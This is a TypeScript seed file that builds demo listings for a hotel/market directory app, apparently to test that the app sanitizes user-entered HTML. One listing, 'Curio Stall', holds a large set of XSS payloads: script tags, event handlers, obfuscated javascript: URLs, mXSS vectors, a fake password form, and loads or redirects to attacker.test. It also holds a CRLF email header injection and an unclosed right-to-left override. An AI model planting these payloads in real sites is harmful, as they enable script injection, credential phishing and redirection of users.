import { type DemoCategory, pictures } from './demo-hotel.ts';

/**
 * HTML that an attacker with a hotel's password could enter. The app must show its plain text only:
 * no dialog, no request to attacker.test, no change of the page.
 */
const HOSTILE = `<p>Keys without doors, a drawer of spectacles, <b onmouseover="alert('curio')">one glass eye</b>.</p>
<script>alert('curio')</script><script src="https://attacker.test/curio.js"></script>
<img src=x onerror="alert('curio')"><img src="//attacker.test/pixel.png" alt="">
<svg onload="alert('curio')"><script>alert('curio')</script><a xlink:href="javascript:alert('curio')"><text y="20">map</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('curio')&gt;"></table></mtext></math>
<a href="javascript:alert('curio')">The stall’s list</a> <a href="java&#9;script:alert('curio')">Its prices</a> <a href="data:text/html,<script>alert('curio')</script>">Its catalogue</a>
<iframe src="https://attacker.test/frame"></iframe><iframe srcdoc="<script>alert('curio')</script>"></iframe><iframe src="https://www.youtube.com.attacker.test/embed/aqz-KE-bpKQ"></iframe>
<div style="position:fixed;inset:0;background:url(https://attacker.test/cover.png);z-index:9999" id="root" class="curio">Everything is for sale.</div>
<style>body{display:none}@import url(https://attacker.test/curio.css);</style><link rel="stylesheet" href="https://attacker.test/curio.css">
<form action="https://attacker.test/login"><input name="password" placeholder="Your password"><button formaction="javascript:alert('curio')">Sign in again</button></form>
<base href="https://attacker.test/"><meta http-equiv="refresh" content="0;url=https://attacker.test/">
<object data="https://attacker.test/curio.swf"></object><embed src="https://attacker.test/curio.swf">
<video src="javascript:alert('curio')" onplay="alert('curio')"></video><details open ontoggle="alert('curio')"><summary>More</summary></details>
<noscript><p title="</noscript><img src=x onerror=alert('curio')>"></p></noscript><template><script>alert('curio')</script></template>
<p>Sundays from nine, whatever the weather.</p>`;

/** Builds listings with other scripts and text directions, and one hostile listing. */
export function grandPlazaMarket(mediaBase: string): DemoCategory {
  const { picture } = pictures(mediaBase, 'grand-plaza');
  return {
    name: 'Lantern Market',
    slug: 'lantern-market',
    image: picture('case'),
    summary: 'Sundays from nine, under the railway arches',
    description: '<p>Forty stalls, three of them with coffee. Bring a bag and small change.</p>',
    latitude: 51.5201,
    longitude: -0.1327,
    tags: ['shopping', 'sunday', 'souvenirs'],
    children: [
      {
        name: 'بيت الشاي',
        slug: 'bayt-al-shay',
        image: picture('dining'),
        summary: 'شاي بالنعناع وحلوى باللوز 🍵 — mint tea and almond sweets',
        description:
          '<p dir="rtl">أهلاً بكم في <strong>بيت الشاي</strong>، من التاسعة صباحاً حتى السادسة مساءً.</p><p>Sit down first, order when you have arrived. 🫖</p>',
        phone: '+44 20 7946 0151',
        whatsapp: '+44 7700 900151',
        latitude: 51.5203,
        longitude: -0.1331,
        advert_type: 'gold',
        tags: ['tea house', 'شاي', 'arabic'],
      },
      {
        name: 'Curio Stall',
        slug: 'curio-stall',
        image: picture('case'),
        // Contains a right-to-left override that is never closed.
        summary: 'Bought \u202Esdrawrof, sold for cash.',
        description: HOSTILE,
        phone: '+44 20 CALL-NOW;ext=1',
        whatsapp: 'javascript:alert(1)',
        email: 'stall@attacker.test?bcc=everybody@attacker.test%0D%0ASubject:curio',
        website: "javascript:alert('curio')",
        booking_link: "java\tscript:alert('curio')",
        latitude: 51.5199,
        longitude: -0.1324,
        tags: ['antiques', '<b>bold</b>'],
      },
      {
        name: 'Sofia’s Sunday Flowers 💐',
        slug: 'sofias-sunday-flowers',
        image: picture('walk'),
        summary: 'Whatever opened this morning, by the bunch.',
        description: '<p>Ask for paper if you have a train to catch.</p>',
        latitude: 51.5202,
        longitude: -0.1325,
        advert_type: 'bronze',
        tags: ['bouquet', 'florist'],
      },
    ],
  };
}
